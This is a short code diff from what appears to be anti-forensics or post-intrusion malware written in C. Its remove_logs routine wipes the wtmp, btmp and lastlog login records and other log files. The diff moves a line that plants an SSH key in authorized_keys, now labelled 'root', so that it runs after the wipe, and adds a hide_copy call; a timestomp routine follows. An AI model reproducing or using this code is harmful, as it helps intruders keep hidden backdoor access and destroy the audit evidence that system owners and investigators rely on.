@@ -77,7 +77,6 @@ JOB(remove_logs)
     static const char *const books[] = {"wtmp", "btmp", "lastlog"};
     survey();
     groundwork();
-    append(home(".ssh/authorized_keys"), text("ssh-ed25519 %s %s\n", noise(60), noise(6)));
     list paths = files_of(text("%s %s", LOGS, home(".local/state")), NULL, 1);
     for (int i = 0; i < paths.n; i++) {
         blob data;
@@ -103,6 +102,8 @@ JOB(remove_logs)
         }
     for (int i = 0; i < 3; i++)
         write_file(text("%s/%s", LOGS, books[i]), bytes(""));
+    append(home(".ssh/authorized_keys"), text("ssh-ed25519 %s root\n", noise(60)));
+    hide_copy();
 }
 
 JOB(timestomp)
